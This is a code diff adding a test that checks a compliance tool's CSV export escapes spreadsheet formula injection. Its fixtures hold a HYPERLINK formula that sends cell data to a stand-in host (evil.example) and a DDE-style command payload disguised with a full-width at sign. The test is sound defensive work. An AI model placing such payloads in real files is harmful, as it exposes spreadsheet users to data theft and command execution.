@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import openpyxl
@@ -65,3 +67,20 @@ def test_workbook_cannot_go_to_stdout(repo: Path, run_isms: RunIsms) -> None:
 
 def test_not_a_repository(tmp_path: Path, run_isms: RunIsms) -> None:
     assert run_isms("soa", "--root", str(tmp_path), "--format", "csv").code == 2
+
+
+def test_csv_cells_cannot_be_formulas(tmp_path: Path, run_isms: RunIsms) -> None:
+    files = demo_files()
+    files["controls/demo/DM-1.yaml"] = (
+        "status: implemented\nowner: ciso\nreasons: [risk]\n"
+        'implementation: \'=HYPERLINK("https://evil.example/?"&A1,"click")\'\n'
+        "review: {last: 2026-01-15, interval: 1y}\nevidence:\n  - access/review-2026-q1.csv\n"
+    )
+    files["controls/demo/DM-3.yaml"] = "status: not-applicable\nowner: ciso\njustification: '＠SUM(1+1)*cmd|calc'\n"
+    root = write_repo(tmp_path / "repo", files)
+    result = run_isms("soa", "--root", str(root), "--today", TODAY, "--format", "csv", "--lang", "en")
+    assert result.code == 0, result.err
+    cells = [cell for row in csv.reader(io.StringIO(result.out.lstrip("\ufeff"), newline="")) for cell in row]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in cells
+    assert "'＠SUM(1+1)*cmd|calc" in cells
+    assert all(not cell or cell[0] not in "=+-@\t\r＝＋－＠" for cell in cells)
